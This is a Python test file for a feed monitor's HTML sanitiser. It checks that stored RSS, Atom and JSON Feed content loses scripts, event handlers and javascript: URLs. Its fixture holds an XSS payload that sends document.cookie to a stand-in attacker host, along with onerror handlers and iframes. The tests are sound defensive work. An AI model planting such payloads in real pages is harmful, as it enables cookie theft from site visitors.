"""Stored feed HTML is sanitised by nh3, and the text rules read does not depend on it
(ADR 0022): feedparser's own sanitizer is off, so these are the guarantees it gave."""

from __future__ import annotations

import json
import re

import lxml.html
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from monitor import parse as parse_module
from monitor.markup import safe_html
from monitor.models import Entry
from monitor.parse import parse
from monitor.text import html_to_text
from tests.test_parse import atom, fetched, one, rss

HOSTILE = (
    '<p onclick="steal()">Prisoner <b>exchange</b> agreed '
    "<script>document.location='https://evil.example/?'+document.cookie</script>"
    '<a href="javascript:alert(1)">more</a> <img src="x" onerror="alert(1)">'
    "<style>p{display:none}</style><iframe src='https://evil.example/'></iframe>"
    ' <a href="https://news.example.com/a/1">read on</a></p>'
)
_RUNS = frozenset(["script", "style", "iframe", "object", "embed", "applet", "form", "base", "meta", "link"])


def assert_safe(markup: str) -> None:
    """No element that runs or loads anything, no event handler, no script URL: read as
    a browser's parser would read the stored markup."""
    if not markup.strip():
        return
    for element in lxml.html.fragment_fromstring(markup, create_parent="div").iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag.lower() not in _RUNS, markup
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), markup
            assert not re.match(r"\s*(javascript|vbscript|data):", value, re.IGNORECASE), markup


def test_safe_html_keeps_text_and_plain_markup_and_drops_what_runs() -> None:
    kept = safe_html(HOSTILE)
    assert_safe(kept)
    assert "<b>exchange</b>" in kept
    assert 'href="https://news.example.com/a/1"' in kept
    assert html_to_text(kept) == "Prisoner exchange agreed more read on"


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ("", ""),
        ("5 < 7 & 8 > 2", "5 &lt; 7 &amp; 8 &gt; 2"),
        ("Kyiv\ud800 strikes", "Kyiv\ufffd strikes"),
        ("Kyiv\x00\x01 strikes", "Kyiv\ufffd\ufffd strikes"),
        ("<p>unclosed <b>bold", "<p>unclosed <b>bold</b></p>"),
    ],
    ids=["empty", "bare-angles", "lone-surrogate", "controls", "unclosed"],
)
def test_safe_html_is_total_on_text_no_sanitizer_was_written_for(markup: str, expected: str) -> None:
    assert safe_html(markup) == expected


def test_safe_html_on_deep_nesting_is_bounded() -> None:
    kept = safe_html("<div>" * 50_000 + "deep" + "</div>" * 50_000)
    assert "deep" in kept


def test_feedparsers_sanitizer_is_off_and_stored_html_is_still_safe() -> None:
    assert parse_module.FEEDPARSER_OPTIONS == {"sanitize_html": False, "resolve_relative_uris": False}
    body = rss(
        "<item><title>Swap</title><guid>s1</guid>"
        f"<description><![CDATA[{HOSTILE}]]></description>"
        f"<content:encoded><![CDATA[<h2>Longer</h2>{HOSTILE}]]></content:encoded></item>"
    )
    entry: Entry = one(parse(fetched(body)))
    assert_safe(entry.summary_html)
    assert_safe(entry.content_html)
    assert entry.summary_text == "Prisoner exchange agreed more read on"
    assert entry.content_text == "Longer\nPrisoner exchange agreed more read on"


@pytest.mark.parametrize("kind", ["html", "xhtml"])
def test_atom_html_and_xhtml_content_is_stored_safe(kind: str) -> None:
    xhtml = HOSTILE.replace('<img src="x" onerror="alert(1)">', '<img src="x" onerror="alert(1)"/>')
    if kind == "html":
        content = f'<content type="html"><![CDATA[{HOSTILE}]]></content>'
    else:
        content = f'<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">{xhtml}</div></content>'
    body = atom(
        "<entry><id>tag:example.net,2024:1</id><title>Swap</title>"
        f"<updated>2024-05-31T12:00:00Z</updated>{content}</entry>"
    )
    entry: Entry = one(parse(fetched(body)))
    stored = entry.content_html or entry.summary_html
    assert_safe(stored)
    assert "exchange" in stored


def test_plain_text_fields_are_stored_as_they_came() -> None:
    body = atom(
        "<entry><id>tag:example.net,2024:2</id><title>Angles</title>"
        "<updated>2024-05-31T12:00:00Z</updated>"
        '<summary type="text">5 &lt; 7, the &lt;script&gt; tag</summary></entry>'
    )
    entry: Entry = one(parse(fetched(body)))
    assert entry.summary_html == "5 < 7, the <script> tag"
    assert entry.summary_text == "5 < 7, the <script> tag"


def test_json_feed_content_html_is_stored_safe() -> None:
    document = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "Desk",
        "items": [{"id": "j1", "title": "Swap", "content_html": HOSTILE}],
    }
    body = json.dumps(document).encode()
    entry: Entry = one(parse(fetched(body, content_type="application/feed+json")))
    assert_safe(entry.summary_html)
    assert entry.summary_text == "Prisoner exchange agreed more read on"


_TAGS = [
    "p",
    "b",
    "i",
    "a",
    "div",
    "span",
    "li",
    "ul",
    "table",
    "td",
    "svg",
    "math",
    "object",
    "h2",
    "blockquote",
]
_ATTRS = ["", ' href="javascript:x()"', ' onload="x()"', ' href="https://a.example/"', ' style="color:red"']
_leaves = st.one_of(
    # no NEL: the table below has what it does alone in a dropped element
    st.text(alphabet=st.characters(codec="utf-8", exclude_characters="<&\x85"), max_size=12),
    st.sampled_from(
        ["&amp;", "&lt;", "&#169;", "&nbsp;", "<!-- c -->", " < ", "<br>", '<img src="x" onerror="y()">']
    ),
    st.sampled_from(
        ["<script>x()</script>", "<style>p{}</style>", "<script src='https://e.example/'></script>"]
    ),
)
# Well-nested fragments (as real feeds' HTML is, nearly always): misnested and unclosed
# markup is read differently by every parser, and the table below lists what was found.
_fragments = st.recursive(
    _leaves,
    lambda inner: st.tuples(st.sampled_from(_TAGS), st.sampled_from(_ATTRS), st.lists(inner, max_size=4)).map(
        lambda t: f"<{t[0]}{t[1]}>{''.join(t[2])}</{t[0]}>"
    ),
    max_leaves=20,
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_fragments)
def test_safe_html_never_leaves_markup_that_runs(markup: str) -> None:
    kept = safe_html(markup)
    assert_safe(kept)
    assert safe_html(kept) == kept or html_to_text(safe_html(kept)) == html_to_text(kept)


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_fragments)
def test_what_rules_read_does_not_depend_on_the_sanitizer(markup: str) -> None:
    """The text (and so the key of an entry without guid or link) is read from the HTML
    as it came; feedparser's sanitizer gave the same text, so turning it off changed no
    entry that was already stored."""
    markup = markup.replace("]]>", "")
    assume(not _double_encoded(markup))  # feedparser's repair of it: in the table below
    body = rss(f"<item><title>T</title><description><![CDATA[{markup}]]></description></item>")
    saved = dict(parse_module.FEEDPARSER_OPTIONS)
    try:
        parse_module.FEEDPARSER_OPTIONS["sanitize_html"] = True
        before = parse(fetched(body)).entries
        parse_module.FEEDPARSER_OPTIONS["sanitize_html"] = False
        after = parse(fetched(body)).entries
    finally:
        parse_module.FEEDPARSER_OPTIONS.update(saved)
    assert [(e.key, e.summary_text) for e in after] == [(e.key, e.summary_text) for e in before]


def _double_encoded(markup: str) -> bool:
    """Would feedparser take ``markup`` for UTF-8 read as Latin-1 and decode it again
    ("CafÃ©" -> "Café")? It does so after its sanitizer, which strips the edges first."""
    try:
        return markup.encode("iso-8859-1").decode("utf-8") != markup
    except (UnicodeEncodeError, UnicodeDecodeError):
        return False


@pytest.mark.parametrize(
    ("markup", "feedparser_read", "now_read"),
    [
        ("Kyiv</script> strikes", "Kyiv", "Kyiv strikes"),
        ("Kyiv</style> strikes", "Kyiv", "Kyiv strikes"),
        ("<![CDATA[Kyiv", "<![CDATA[Kyiv", ""),
        ("<applet>Kyiv</applet>", "", "Kyiv"),
        ("<iframe>fallback</iframe>Kyiv", "fallbackKyiv", "Kyiv"),
        ("<iframe>Kyiv <b>strikes</b>", "Kyiv strikes", ""),
        ("<xmp>Kyiv <b>strikes", "Kyiv strikes", "Kyiv <b>strikes"),
        ("<title>Kyiv</title>", "Kyiv", ""),
        ("Kyiv &A; strikes", "Kyiv &A strikes", "Kyiv &A; strikes"),
        # NEL (U+0085) is whitespace to str.strip, which the old path applied once the
        # object was gone; elsewhere the text reads it as cp1252's ellipsis, now here too
        ("<object>\x85</object>", "", "\u2026"),
        # Mojibake of a no-break space ("Â\xa0"), left at the edge once the object is gone:
        # the sanitizer stripped the space, so feedparser's repair of double-encoded UTF-8
        # no longer applied; now it does, as it does to "CafÃ©" either way
        ("<object>Â\xa0</object>", "Â", ""),
        ("<p>CafÃ©</p>", "Café", "Café"),
    ],
    ids=[
        "stray-script-end",
        "stray-style-end",
        "cdata-in-html",
        "applet",
        "iframe",
        "unclosed-iframe",
        "xmp",
        "title",
        "unknown-entity",
        "lone-nel-in-object",
        "mojibake-nbsp-at-the-edge",
        "mojibake-repaired-either-way",
    ],
)
def test_where_feedparsers_sanitizer_read_otherwise_the_text_is_what_a_browser_shows(
    markup: str, feedparser_read: str, now_read: str
) -> None:
    """The differences the property above found with these constructs allowed: a stray
    end tag hid the rest of the text, an iframe's fallback (which no browser shows) was
    read, and so on. None occurs in the 3,828 entries
    of the real-feed corpus (``python -m bench parse_options``); an entry without guid
    or link whose text holds one gets a new key once, after the upgrade."""
    body = rss(f"<item><title>T</title><description><![CDATA[{markup}]]></description></item>")
    saved = dict(parse_module.FEEDPARSER_OPTIONS)
    try:
        parse_module.FEEDPARSER_OPTIONS["sanitize_html"] = True
        before = one(parse(fetched(body))).summary_text
    finally:
        parse_module.FEEDPARSER_OPTIONS.update(saved)
    assert before == feedparser_read
    assert one(parse(fetched(body))).summary_text == now_read
